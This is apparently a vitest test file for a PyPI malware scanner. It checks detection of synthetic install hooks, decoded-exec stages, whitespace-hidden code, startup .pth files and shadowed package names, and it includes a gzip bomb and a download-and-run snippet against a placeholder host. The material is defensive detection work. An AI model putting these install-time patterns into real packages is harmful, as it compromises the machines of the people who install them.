// The code scanner on synthetic archives built in the test: published malicious patterns must be found
// with the right file, line, level and inspector link; benign look-alikes must not; hostile archives
// must end in "not checked", never in an exception.
import { describe, expect, it } from 'vitest';
import { gzipSync, strToU8, zipSync } from 'fflate';
import { readArchive } from '../../../../../utils/analysis/code-scan/archive';
import { scanDistribution, inspectorFileUrl } from '../../../../../utils/analysis/code-scan';
import { scanPython } from '../../../../../utils/analysis/code-scan/setup-py';
import { EXCERPT_CHARS } from '../../../../../utils/analysis/code-scan/python-source';
import {
  HARMLESS_B64,
  HIDDEN_LINE_SETUP_PY,
  INSTALL_HOOK_SETUP_PY,
  SETUPTOOLS_PTH,
  STARTUP_PTH,
  metaFor,
  syntheticSdist,
  syntheticWheel,
} from './synthetic-archives';

const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;
const summary = (findings: { check: string; level: string; path: string | null; line: number | null }[]) =>
  findings.map((f) => `${f.level} ${f.check} ${f.path}:${f.line}`).sort();

describe('synthetic sdists with published install-time patterns', () => {
  it('finds the cmdclass install hook running a base64-decoded stage, with file, line and inspector link', async () => {
    const sdist = await syntheticSdist('synthetic-stealer', '1.0.0', {
      'setup.py': INSTALL_HOOK_SETUP_PY,
      'PKG-INFO': 'Name: synthetic-stealer\n',
    });
    const { distribution, findings } = await scanDistribution(
      sdist,
      metaFor('synthetic-stealer-1.0.0.tar.gz', 'synthetic-stealer', '1.0.0'),
    );
    const execLine = lineOf(INSTALL_HOOK_SETUP_PY, 'exec(base64');
    const classLine = lineOf(INSTALL_HOOK_SETUP_PY, 'class PostInstallCommand');
    expect(distribution).toMatchObject({
      state: 'scanned',
      entryCount: 2,
      checkedPaths: ['synthetic-stealer-1.0.0/setup.py'],
      checkedCount: 1,
    });
    expect(summary(findings)).toEqual([
      `danger decoded-exec synthetic-stealer-1.0.0/setup.py:${execLine}`,
      `danger install-hook synthetic-stealer-1.0.0/setup.py:${classLine}`,
    ]);
    const decoded = findings.find((f) => f.check === 'decoded-exec')!;
    expect(decoded.excerpt).toBe(`exec(base64.b64decode("${HARMLESS_B64}"))`);
    expect(decoded.detail).toMatch(/inside the custom install step \(class PostInstallCommand\)/);
    expect(decoded.url).toBe(
      `https://inspector.pypi.io/project/synthetic-stealer/1.0.0/packages/ab/cd/0123456789abcdef/synthetic-stealer-1.0.0.tar.gz/synthetic-stealer-1.0.0/setup.py#line.${execLine}`,
    );
  });

  it('finds code hidden after hundreds of blanks on the setup() line (W4SP style)', async () => {
    const sdist = await syntheticSdist('synthetic-w4sp', '0.0.1', { 'setup.py': HIDDEN_LINE_SETUP_PY });
    const { findings } = await scanDistribution(sdist, metaFor('synthetic-w4sp-0.0.1.tar.gz', 'synthetic-w4sp', '0.0.1'));
    expect(summary(findings)).toEqual([
      'caution obfuscated-line synthetic-w4sp-0.0.1/setup.py:3',
      'danger decoded-exec synthetic-w4sp-0.0.1/setup.py:3',
    ]);
    const hidden = findings.find((f) => f.check === 'obfuscated-line')!;
    // The excerpt is centred on the hidden code, not on the blanks, and stays within the limit.
    expect(hidden.excerpt).toContain("__import__('builtins').exec(");
    expect(hidden.excerpt!.length).toBeLessThanOrEqual(EXCERPT_CHARS + 2);
  });

  it('follows a decoded payload through a variable into exec, and marshal/zlib decoders', () => {
    const code = [
      'import zlib, marshal',
      'blob = zlib.decompress(DATA)',
      'exec(marshal.loads(blob))',
      'stage = codecs.decode(x, "rot13")',
      'eval(stage)',
    ].join('\n');
    expect(summary(scanPython('setup.py', code))).toEqual(['danger decoded-exec setup.py:3', 'danger decoded-exec setup.py:5']);
  });

  it('reports network and process use at install as caution, inside an install hook as danger', () => {
    const plain = [
      'import urllib.request',
      'urllib.request.urlretrieve("https://example.invalid/x", "/tmp/x")',
      'os.system("sh /tmp/x")',
    ].join('\n');
    expect(summary(scanPython('setup.py', plain))).toEqual([
      'caution network setup.py:1',
      'caution network setup.py:2',
      'caution process setup.py:3',
    ]);
    const hooked = [
      'from setuptools.command.develop import develop as _develop',
      'class D(_develop):',
      '    def run(self):',
      '        import requests',
      '        subprocess.Popen(["sh"])',
      'setup(cmdclass={"develop": D})',
    ].join('\n');
    expect(summary(scanPython('setup.py', hooked))).toEqual([
      'danger install-hook setup.py:2',
      'danger network setup.py:4',
      'danger process setup.py:5',
    ]);
  });

  it('flags a long high-entropy string even without exec', () => {
    const blob = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 7919 + 13) % 256)).toString('base64');
    expect(summary(scanPython('setup.py', `PAYLOAD = "${blob}"\n`))).toEqual(['caution obfuscated-line setup.py:1']);
    expect(scanPython('setup.py', `PAYLOAD = "${blob}"\n`)[0]!.detail).toMatch(
      /^A 400-character string of 5\.9 bits per character: the shape of an encoded payload/,
    );
  });

  it('flags a low-entropy encoded run (bits as two symbols) by its run, not as a high-entropy string', () => {
    const bits = Array.from({ length: 640 }, (_, i) => ((i * 7919) >> 3) % 2).join('');
    const [finding] = scanPython('setup.py', `BITS = "${bits}"\n`);
    expect(finding?.check).toBe('obfuscated-line');
    expect(finding?.detail).toBe(
      'A 640-character string holding an unbroken run of at least 200 hex or 300 base64 characters: the shape of encoded data, not of text.',
    );
  });
});

describe('benign look-alikes stay quiet', () => {
  it('exec of a version file, re.compile, words in strings and comments, a publish shortcut, git describe', () => {
    const code = [
      'import re, os, sys, subprocess',
      'about = {}',
      'exec(open("pkg/__version__.py").read(), about)',
      'VERSION = re.compile(r"__version__ = (.*)")',
      'long_description = """Uses requests and socket; call os.system() and exec(b64decode(x)) in docs."""',
      '# we used to import urllib.request here',
      'if sys.argv[-1] == "publish":',
      '    os.system("python setup.py sdist upload")',
      '    sys.exit()',
      'rev = subprocess.check_output(["git", "describe", "--tags"]).strip()',
      `DESCRIPTION = "${'A plain English sentence about the package and what it does for you. '.repeat(4)}"`,
      'class build_ext(_build_ext):',
      '    pass',
      'setup(cmdclass={"build_ext": build_ext}, long_description=long_description)',
    ].join('\n');
    const findings = scanPython('setup.py', code);
    expect(summary(findings)).toEqual(['info process setup.py:10', 'info process setup.py:8']);
    expect(findings.find((f) => f.line === 8)!.detail).toMatch(/only when setup\.py is run by hand/);
  });
});

describe('wheels: .pth files, scripts, shadowed names', () => {
  it('a .pth that spawns a decoded stage at every start is danger (litellm_init.pth shape)', async () => {
    const wheel = syntheticWheel({ 'synthetic_llm_init.pth': STARTUP_PTH, 'synthetic_llm/__init__.py': '' });
    const { findings } = await scanDistribution(wheel, metaFor('synthetic_llm-1.0-py3-none-any.whl', 'synthetic-llm', '1.0'));
    expect(summary(findings)).toEqual([
      'caution obfuscated-line synthetic_llm_init.pth:1',
      'danger decoded-exec synthetic_llm_init.pth:1',
      'danger process synthetic_llm_init.pth:1',
      'danger pth-file synthetic_llm_init.pth:1',
    ]);
    expect(findings.find((f) => f.check === 'pth-file')!.url).toBe(
      'https://inspector.pypi.io/project/synthetic-llm/1.0/packages/ab/cd/0123456789abcdef/synthetic_llm-1.0-py3-none-any.whl/synthetic_llm_init.pth#line.1',
    );
  });

  it("setuptools' own distutils-precedence.pth is a note with its explanation; the same text elsewhere is caution", async () => {
    const files = { 'distutils-precedence.pth': SETUPTOOLS_PTH, '_distutils_hack/__init__.py': '', 'setuptools/__init__.py': '' };
    const own = await scanDistribution(syntheticWheel(files), metaFor('setuptools-65.5.0-py3-none-any.whl', 'setuptools', '65.5.0'));
    expect(summary(own.findings)).toEqual(['info pth-file distutils-precedence.pth:1']);
    expect(own.findings[0]!.detail).toMatch(/setuptools' own shim/);
    const copy = await scanDistribution(syntheticWheel(files), metaFor('setuptoolz-1.0-py3-none-any.whl', 'setuptoolz', '1.0'));
    expect(summary(copy.findings)).toEqual([
      'caution pth-file distutils-precedence.pth:1',
      'caution shadowed-package _distutils_hack/__init__.py:null',
      'caution shadowed-package setuptools/__init__.py:null',
    ]);
  });

  it('a path-only .pth is a note; a generated namespace .pth is explained', async () => {
    const nspkg =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
    const wheel = syntheticWheel({ 'extra.pth': 'vendor\n', 'zope.foo-1.0-py3.9-nspkg.pth': nspkg, 'zope/foo/__init__.py': '' });
    const { findings } = await scanDistribution(wheel, metaFor('zope.foo-1.0-py3-none-any.whl', 'zope.foo', '1.0'));
    expect(summary(findings)).toEqual(['info pth-file extra.pth:1', 'info pth-file zope.foo-1.0-py3.9-nspkg.pth:1']);
    // The same template with one more import is not setuptools' line any more.
    const tampered = syntheticWheel({
      'zope.bar-1.0-nspkg.pth': nspkg.replace("has_mfs and __import__('importlib.machinery')", "__import__('zope_bar_hook')"),
    });
    const hostile = await scanDistribution(tampered, metaFor('zope.bar-1.0-py3-none-any.whl', 'zope.bar', '1.0'));
    expect(hostile.findings.filter((f) => f.check === 'pth-file').map((f) => f.level)).toEqual(['caution']);
  });

  it('scripts under .data/scripts: a note, caution when named like a daily command, danger when hiding a payload', async () => {
    const wheel = syntheticWheel({
      'tool-1.0.data/scripts/tool-cli': '#!python\nprint("hi")\n',
      'tool-1.0.data/scripts/pip': '#!python\nimport sys\n',
      'tool-1.0.data/scripts/helper.py': `#!python\nexec(__import__("base64").b64decode("${HARMLESS_B64}"))\n`,
      'tool/__init__.py': '',
    });
    const { findings } = await scanDistribution(wheel, metaFor('tool-1.0-py3-none-any.whl', 'tool', '1.0'));
    expect(summary(findings)).toEqual([
      'caution data-script tool-1.0.data/scripts/pip:1',
      'danger decoded-exec tool-1.0.data/scripts/helper.py:2',
      'info data-script tool-1.0.data/scripts/helper.py:1',
      'info data-script tool-1.0.data/scripts/tool-cli:1',
    ]);
  });

  it('a top-level module owned by a popular package, or sitecustomize, is caution; the owner itself is fine', async () => {
    const impostor = syntheticWheel({ 'yaml/__init__.py': '', 'sitecustomize.py': '', 'helper/__init__.py': '' });
    const { findings } = await scanDistribution(impostor, metaFor('yaml_tools-1.0-py3-none-any.whl', 'yaml-tools', '1.0'));
    expect(summary(findings)).toEqual(['caution shadowed-package sitecustomize.py:null', 'caution shadowed-package yaml/__init__.py:null']);
    expect(findings.find((f) => f.path === 'yaml/__init__.py')!.detail).toMatch(/import name of pyyaml/);
    const real = await scanDistribution(
      syntheticWheel({ 'yaml/__init__.py': '', '_yaml/__init__.py': '' }),
      metaFor('PyYAML-6.0-cp311-cp311-linux_x86_64.whl', 'PyYAML', '6.0'),
    );
    expect(real.findings).toEqual([]);
  });
});

describe('hostile archives end in "not checked", never an exception', () => {
  const meta = metaFor('x-1.0.tar.gz', 'x', '1.0');
  it.each([
    ['random bytes', new Uint8Array(1000).map((_, i) => (i * 31) % 256)],
    ['an empty file', new Uint8Array(0)],
    ['a truncated gzip', (async () => (await syntheticSdist('x', '1.0', { 'setup.py': 'x' })).slice(0, 30))()],
  ])('%s', async (_label, input) => {
    const { distribution, findings } = await scanDistribution(await input, meta);
    expect(distribution.state).toBe('error');
    expect(distribution.error?.kind).toBe('malformed');
    expect(findings).toEqual([]);
  });

  it('a gzip bomb stops at the unpack cap (a smaller cap here, the same code path)', async () => {
    const bomb = gzipSync(new Uint8Array(48 * 1024 * 1024), { level: 1 });
    expect(bomb.length).toBeLessThan(512 * 1024);
    expect(await readArchive(bomb, 'tar.gz', () => true, { maxUnpackedBytes: 8 * 1024 * 1024 })).toEqual({
      error: 'unpacks to more than 8 MB',
    });
  }, 30_000);

  it('a zip entry declaring a huge size is listed, never decompressed, and "not checked: too large" (never listed as read)', async () => {
    const wheel = zipSync({ 'big.pth': new Uint8Array(3 * 1024 * 1024).fill(0x61), 'ok/__init__.py': strToU8('') });
    const { distribution, findings } = await scanDistribution(wheel, metaFor('ok-1.0-py3-none-any.whl', 'ok', '1.0'));
    // The empty ok/__init__.py is read now: it is what `import ok` runs (issue 18).
    expect(distribution).toMatchObject({ state: 'scanned', entryCount: 2, checkedPaths: ['ok/__init__.py'], checkedCount: 1 });
    expect(summary(findings)).toEqual(['caution not-checked big.pth:null']);
    expect(findings[0]!.detail).toMatch(
      /^Not checked: larger than 2 MB\. big\.pth runs when the package is installed and at every Python start/,
    );
  });
});

describe('inspector links', () => {
  it('are built only for files.pythonhosted.org package URLs, with the name normalised', () => {
    expect(
      inspectorFileUrl({ url: 'https://files.pythonhosted.org/packages/74/90/29/Foo_Bar-1.0.tar.gz', project: 'Foo_Bar', version: '1.0' }),
    ).toBe('https://inspector.pypi.io/project/foo-bar/1.0/packages/74/90/29/Foo_Bar-1.0.tar.gz/');
    expect(inspectorFileUrl({ url: 'https://evil.example/packages/x.tar.gz', project: 'x', version: '1' })).toBeNull();
    expect(inspectorFileUrl({ url: 'http://files.pythonhosted.org/packages/x.tar.gz', project: 'x', version: '1' })).toBeNull();
    expect(inspectorFileUrl({ url: 'javascript:alert(1)', project: 'x', version: '1' })).toBeNull();
  });
});
